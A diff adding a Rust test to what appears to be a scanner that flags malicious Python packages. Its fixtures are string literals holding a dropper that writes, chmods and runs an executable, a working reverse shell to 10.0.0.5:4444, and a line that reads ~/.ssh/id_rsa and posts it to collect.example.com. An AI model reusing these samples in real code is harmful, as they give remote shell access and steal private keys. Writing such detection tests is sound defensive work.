@@ -1662,6 +1662,30 @@ fn tests_and_vendored_code_count_only_for_a_reverse_shell() {
 }
 
 #[test]
+fn a_test_file_with_no_way_to_a_shell_is_not_parsed() {
+    // Writing an executable and making it runnable is reported in package code ...
+    let drop = "import os\ndef make(data):\n    with open('tool.exe', 'wb') as f:\n        f.write(data)\n    os.chmod('tool.exe', 0o755)\n";
+    let ev = scan(&[("demo-1.0/demo/tools.py", drop)]);
+    assert!(!of_rule(&ev, "drop-executable").is_empty(), "{}", dump(&ev));
+    // ... but a test that does it names no socket, process, decoder or dynamic import, so it
+    // could not count there: it is not parsed at all.
+    let ev = scan(&[("demo-1.0/tests/test_tools.py", drop)]);
+    assert!(ev.is_empty(), "{}", dump(&ev));
+    // Once it also starts what it wrote, it is parsed and reported (without counting).
+    let run = format!("{drop}    os.system('tool.exe')\n");
+    let ev = scan(&[("demo-1.0/tests/test_tools.py", &run)]);
+    assert!(!of_rule(&ev, "drop-executable").is_empty(), "{}", dump(&ev));
+    // A reverse shell in a vendored file is still found.
+    let shell = "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.system('/bin/sh -i')\n";
+    let ev = scan(&[("demo-1.0/_vendor/net.py", shell)]);
+    assert!(
+        has(&ev, "reverse-shell", Behaviour::ReverseShell),
+        "{}",
+        dump(&ev)
+    );
+}
+
+#[test]
 fn flows_a_test_file_is_judged_on_what_counts_there() {
     let steal = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.com', data=key)\n";
     // In package code: malicious.
